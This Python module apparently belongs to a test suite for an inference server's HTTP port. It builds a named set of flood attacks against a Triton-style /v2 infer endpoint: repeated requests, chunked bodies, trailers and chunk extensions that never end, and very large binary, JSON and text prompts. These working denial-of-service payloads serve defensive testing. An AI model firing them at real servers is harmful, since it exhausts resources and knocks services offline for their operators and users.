"""What an attacker sends over HTTP, as endless pieces of bytes for one connection: nothing waits for an answer."""

from __future__ import annotations

import json
from array import array
from collections.abc import Callable, Iterator, Mapping
from functools import cache
from itertools import repeat

from attack.frames import Attack
from trtmesh.chassis.parsing import MAX_PROMPT_TOKENS

PIECE_REQUESTS = 20
"""Requests in a piece."""

PIECE_CHUNKS = 2000
"""Chunks in a piece."""

PIECE_BYTES = 2**16
"""Bytes of a large request in a piece."""

TOKEN = 70_000
"""A token id of an object of its own, as most are."""

INFER = "POST /v2/models/tensorrt_llm/infer HTTP/1.1\r\nHost: a\r\n"


def requests(head: str, body: bytes = b"") -> Attack:
    """The same request again and again."""
    request = f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body
    return lambda: repeat(request * PIECE_REQUESTS)


def chunks() -> Iterator[bytes]:
    """A body that does not end, in chunks of a byte."""
    yield f"{INFER}Transfer-Encoding: chunked\r\n\r\n".encode()
    yield from repeat(b"1\r\nx\r\n" * PIECE_CHUNKS)


def trailers() -> Iterator[bytes]:
    """A body whose trailers do not end."""
    yield f"{INFER}Transfer-Encoding: chunked\r\n\r\n0\r\n".encode()
    yield from repeat(b"a: b\r\n" * PIECE_CHUNKS)


def chunk_extension() -> Iterator[bytes]:
    """A body whose first chunk has an extension that does not end."""
    yield f"{INFER}Transfer-Encoding: chunked\r\n\r\n1".encode()
    yield from repeat(b";a=b" * PIECE_CHUNKS)


def large_requests(build: Callable[[], bytes]) -> Attack:
    """One large request again and again, in pieces."""

    def attack() -> Iterator[bytes]:
        request = build()
        while True:
            for at in range(0, len(request), PIECE_BYTES):
                yield request[at : at + PIECE_BYTES]

    return attack


def _infer(inputs: list[dict[str, object]], data: bytes = b"") -> bytes:
    """A request of `infer`, with binary data."""
    described = json.dumps({"inputs": inputs}, separators=(",", ":")).encode()
    head = (
        f"{INFER}Content-Length: {len(described) + len(data)}\r\n"
        f"Inference-Header-Content-Length: {len(described)}\r\n\r\n"
    )
    return head.encode() + described + data


def _prompt(ids: int, **content: object) -> list[dict[str, object]]:
    """The inputs of a prompt of so many ids."""
    one: dict[str, object] = {"shape": [1, 1], "datatype": "INT32", "data": [1]}
    prompt = {"name": "input_ids", "shape": [1, ids], "datatype": "INT32", **content}
    return [prompt, *({"name": name, **one} for name in ("input_lengths", "request_output_len"))]


def _binary_prompt(ids: int) -> bytes:
    data = array("i", [TOKEN]) * ids
    size = {"binary_data_size": len(data) * data.itemsize}
    return _infer(_prompt(ids, parameters=size), data.tobytes())


@cache
def _binary_ids() -> bytes:
    """More ids than a prompt may have."""
    return _binary_prompt(15 * 2**20)


@cache
def _binary_long_prompt() -> bytes:
    return _binary_prompt(MAX_PROMPT_TOKENS)


@cache
def _json_numbers() -> bytes:
    return _infer(_prompt(1_000_000, data=[TOKEN] * 1_000_000))


@cache
def _long_text() -> bytes:
    body = json.dumps({"text_input": "a word " * (15 * 2**20 // 7), "max_tokens": 1}).encode()
    head = f"POST /v2/models/ensemble/generate HTTP/1.1\r\nHost: a\r\nContent-Length: {len(body)}\r\n\r\n"
    return head.encode() + body


LISTS = b'{"inputs":[{"name":"x","shape":[1],"datatype":"INT32","data":[%s]}]}' % b",".join(
    [b"[]"] * 2000
)
"""Just small enough to be parsed on the event loop, and refused at its end."""

HTTP_FLOODS: Mapping[str, Attack] = {
    "HTTP requests": requests("GET /v2/nothing HTTP/1.1\r\nHost: a\r\n"),
    "HTTP bodies of lists": requests(INFER, LISTS),
    "HTTP chunks of a byte": chunks,
    "HTTP trailers": trailers,
    "HTTP chunk extension": chunk_extension,
    "HTTP 60 MiB of binary ids": large_requests(_binary_ids),
    "HTTP long prompts": large_requests(_binary_long_prompt),
    "HTTP JSON of a million numbers": large_requests(_json_numbers),
    "HTTP texts of 15 MiB": large_requests(_long_text),
}
"""Attacks on the HTTP port at the speed of the network, by name. All are slowed."""
